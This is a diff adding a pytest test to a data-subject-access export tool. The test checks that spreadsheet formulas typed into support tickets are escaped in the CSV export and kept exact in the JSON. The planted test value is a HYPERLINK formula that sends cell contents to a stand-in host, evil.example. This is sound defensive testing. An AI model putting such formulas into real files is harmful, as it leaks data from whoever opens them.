@@ -10,6 +10,8 @@ import io
 
 import pytest
 from pypdf import PdfReader
+from sqlalchemy import create_engine, text
+from sqlalchemy.pool import NullPool
 
 from dsr.exports.sample import carry_out, file_verified_request
 from dsr.models import Right
@@ -247,3 +249,30 @@ def test_someone_we_have_nothing_on_gets_an_empty_answer_with_the_general_inform
     text = " ".join(pdf_text(bundle.read("answer.pdf")).split())
     assert "Vi hittade inga poster om dig." in text
     assert "Eftersom vi inte hittade något om dig" in text
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_csv(app, db):
+    # Anyone can type into a support ticket; opening the answer must not run what they typed.
+    planted = '=HYPERLINK("https://evil.example/?q="&A1,"Klicka här")'
+    (source,) = app.extensions["dsr.profile"].sources  # the demo shop
+    engine = create_engine(source.resolve_url(app.config["DATA_DIR"]), poolclass=NullPool)
+    with engine.begin() as conn:
+        conn.execute(text("UPDATE ticket_messages SET body = :body"), {"body": planted})
+    engine.dispose()
+
+    _request, export = answer_for(db, app, Right.access)
+    bundle = opened(app, export)
+    rows = list(
+        csv.DictReader(
+            io.StringIO(bundle.read("csv/kundsystem.ticket_messages.csv").decode("utf-8-sig"))
+        )
+    )
+    assert rows and {row["body"] for row in rows} == {"'" + planted}
+    # The JSON is for machines and keeps the value exactly.
+    bodies = {
+        r["values"]["body"]
+        for t, r in iter_records(document(app, export))
+        if t == "ticket_messages"
+    }
+    assert bodies == {planted}
+    assert "så att inget kalkylprogram kör den som en formel" in bundle.read("README.txt").decode()
